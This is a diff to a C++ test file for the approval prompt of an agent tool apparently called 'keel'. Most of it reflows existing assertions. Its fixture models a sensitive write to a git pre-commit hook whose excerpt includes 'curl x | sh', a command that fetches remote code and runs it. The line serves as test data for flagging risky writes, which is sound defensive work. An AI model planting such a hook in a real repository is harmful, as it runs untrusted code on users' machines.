@@ -21,8 +21,10 @@ json write_request() {
             {"target", "/w/.git/hooks/pre-commit"},
             {"sensitive", true},
             {"sensitiveReasons", {"inside .git/ (its hooks and config run commands)"}},
-            {"change", {{"format", "excerpt"}, {"text", "+#!/bin/sh\n+… 300 lines not shown …\n+curl x | sh\n"},
-                        {"bytesAfter", 4321}}}}},
+            {"change",
+             {{"format", "excerpt"},
+              {"text", "+#!/bin/sh\n+… 300 lines not shown …\n+curl x | sh\n"},
+              {"bytesAfter", 4321}}}}},
           {"reason", "writes on this machine need approval"},
           {"offers", {"accept", "acceptForSite", "decline"}},
           {"remember",
@@ -54,13 +56,16 @@ TEST(ApprovalViewTest, ControlCharactersFromTheRequestAreMadeVisible) {
 TEST(ApprovalViewTest, TheChoicesNameWhatIsRememberedAndForHowLong) {
   const std::vector<std::string> choices = approval_choice_lines(write_request());
   ASSERT_EQ(choices.size(), 2u);
-  EXPECT_EQ(choices[0],
-            "or remember: write_file (write) on this machine, in this thread (t1), in the workspace /w — for this "
-            "turn [t], until keel exits [s], until revoked [a]");
+  EXPECT_EQ(
+      choices[0],
+      "or remember: write_file (write) on this machine, in this thread (t1), in the workspace /w — for this "
+      "turn [t], until keel exits [s], until revoked [a]");
   EXPECT_EQ(choices[1], "[y] once  [t] turn  [s] session  [a] until revoked  [n] decline");
   EXPECT_EQ(approval_answer(write_request(), "y"), (json{{"decision", "accept"}}));
-  EXPECT_EQ(approval_answer(write_request(), "s"), (json{{"decision", "acceptForSite"}, {"remember", "session"}}));
-  EXPECT_EQ(approval_answer(write_request(), "t"), (json{{"decision", "acceptForSite"}, {"remember", "turn"}}));
+  EXPECT_EQ(approval_answer(write_request(), "s"),
+            (json{{"decision", "acceptForSite"}, {"remember", "session"}}));
+  EXPECT_EQ(approval_answer(write_request(), "t"),
+            (json{{"decision", "acceptForSite"}, {"remember", "turn"}}));
   EXPECT_EQ(approval_answer(write_request(), "a"),
             (json{{"decision", "acceptForSite"}, {"remember", "untilRevoked"}}));
   EXPECT_EQ(approval_answer(write_request(), "n"), (json{{"decision", "decline"}}));
